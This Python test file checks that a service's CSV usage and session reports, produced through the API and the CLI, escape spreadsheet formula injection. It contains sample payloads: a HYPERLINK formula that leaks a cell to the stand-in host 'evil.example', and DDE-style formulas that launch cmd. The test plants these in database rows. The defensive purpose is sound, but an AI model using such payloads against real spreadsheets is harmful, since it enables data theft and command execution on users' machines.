"""CSV formula injection: text a tenant (or anyone) chose reaches no spreadsheet as a live formula.

A widget key label is the tenant's own text, set through the API. Agent slugs, origins and end reasons cannot start a
formula through the API today (a slug pattern, an origin parser, end reasons the product names), so the test writes
them into the session's rows itself: the writer must not rely on the checks upstream of it. Every CSV is read back
with Python's csv module, as a spreadsheet splits it, through the real API with a server key and the real CLI.
"""

from __future__ import annotations

import uuid
from datetime import UTC, datetime

from tests.reports.spreadsheet import live_formulas, records
from tests.reports.test_reports import auth, report_cli
from tests.support.asserts import wait_for
from tests.support.database import Db

LABEL = '=HYPERLINK("https://evil.example/?leak="&A2,"Open invoice")'
AGENT = "-2+3+cmd|' /C calc'!A0"
ORIGIN = "@SUM(1+1)*cmd|' /C calc'!A0"
END_REASON = '+HYPERLINK("https://e.example")'  # 31 of its 32 characters
USAGE_BY = "agent,widget_key,origin,end_reason"


def one_poisoned_session(stack, tenant, db: Db) -> tuple[str, str]:
    """A widget session under a key labelled with a formula, metered, then given a formula for its agent slug,
    origin and end reason everywhere the reports read them (the session, its ledger rows, its day's rollup).
    Returns the session and the widget key ids."""
    made = stack.http.post(
        "/v1/widget-keys", json={"label": LABEL, "allowed_origins": [tenant.origin]}, headers=auth(tenant.server_key)
    )
    assert made.status_code == 201, made.text
    key = made.json()
    widget = stack.http.post(
        "/v1/widget/sessions", json={"agent": "demo"}, headers={**auth(key["key"]), "Origin": tenant.origin}
    ).json()
    sid = widget["session_id"]
    stack.http.post(
        f"/v1/widget/sessions/{sid}/end", headers={**auth(widget["heartbeat"]["token"]), "Origin": tenant.origin}
    )
    wait_for(
        lambda: db.value("select count(*) from usage_events where session_id = $1 and event = 'ended'", uuid.UUID(sid)),
        timeout=15,
        what="the ledger row",
    )
    poison = "agent_slug = $1, origin = $2, end_reason = $3"
    db.execute(f"update sessions set {poison} where id = $4", AGENT, ORIGIN, END_REASON, uuid.UUID(sid))
    db.execute(f"update usage_events set {poison} where session_id = $4", AGENT, ORIGIN, END_REASON, uuid.UUID(sid))
    db.execute(
        f"update usage_daily set {poison} where tenant_id = $4 and widget_key_id = $5",
        AGENT,
        ORIGIN,
        END_REASON,
        tenant.tenant_id,
        uuid.UUID(key["id"]),
    )
    return sid, key["id"]


def assert_usage_csv_is_safe(text: str, key_id: str) -> None:
    assert live_formulas(text) == []
    [row] = [r for r in records(text) if r["widget_key"] == key_id]
    assert (row["widget_key_label"], row["agent"], row["origin"], row["end_reason"]) == (
        "'" + LABEL,
        "'" + AGENT,
        "'" + ORIGIN,
        "'" + END_REASON,
    )  # quoted, and otherwise exactly the text
    assert row["sessions"] == "1" and row["billed_seconds"].isdigit()  # numbers stay numbers


def assert_sessions_csv_is_safe(text: str, sid: str) -> None:
    assert live_formulas(text) == []
    [row] = [r for r in records(text) if r["id"] == sid]
    assert (row["agent"], row["origin"], row["end_reason"]) == ("'" + AGENT, "'" + ORIGIN, "'" + END_REASON)
    assert row["billed_seconds"].isdigit()


def test_no_formula_reaches_a_tenants_csv_through_the_api(stack, tenant, db: Db) -> None:
    sid, key_id = one_poisoned_session(stack, tenant, db)
    day = datetime.now(UTC).date().isoformat()
    params = {"from": day, "to": day, "by": USAGE_BY}

    usage = stack.http.get("/v1/reports/usage", params={**params, "format": "csv"}, headers=auth(tenant.server_key))
    assert usage.status_code == 200 and usage.headers["content-type"].startswith("text/csv")
    assert_usage_csv_is_safe(usage.text, key_id)
    by_accept = stack.http.get(
        "/v1/reports/usage", params=params, headers={**auth(tenant.server_key), "Accept": "text/csv"}
    )
    assert by_accept.text == usage.text

    history = stack.http.get("/v1/reports/sessions", headers={**auth(tenant.server_key), "Accept": "text/csv"})
    assert history.status_code == 200 and history.headers["content-type"].startswith("text/csv")
    assert_sessions_csv_is_safe(history.text, sid)
    assert (
        stack.http.get("/v1/reports/sessions", params={"format": "csv"}, headers=auth(tenant.server_key)).text
        == history.text
    )

    # JSON is not a spreadsheet: it answers the text as it is.
    rows = stack.http.get("/v1/reports/usage", params=params, headers=auth(tenant.server_key)).json()["rows"]
    assert [(r["agent"], r["origin"], r["end_reason"]) for r in rows if r["widget_key"] == key_id] == [
        (AGENT, ORIGIN, END_REASON)
    ]


def test_no_formula_reaches_a_tenants_csv_through_the_cli(
    stack, tenant, db: Db, owner_database_url: str, sim_server, tmp_path
) -> None:
    sid, key_id = one_poisoned_session(stack, tenant, db)

    usage = report_cli(
        owner_database_url, sim_server.url, tmp_path, "usage", "--tenant", str(tenant.tenant_id), "--by", USAGE_BY
    )
    assert_usage_csv_is_safe(usage.stdout, key_id)

    out = tmp_path / "sessions.csv"
    report_cli(
        owner_database_url, sim_server.url, tmp_path, "sessions", "--tenant", str(tenant.tenant_id), "-o", str(out)
    )
    assert_sessions_csv_is_safe(out.read_text(encoding="utf-8"), sid)
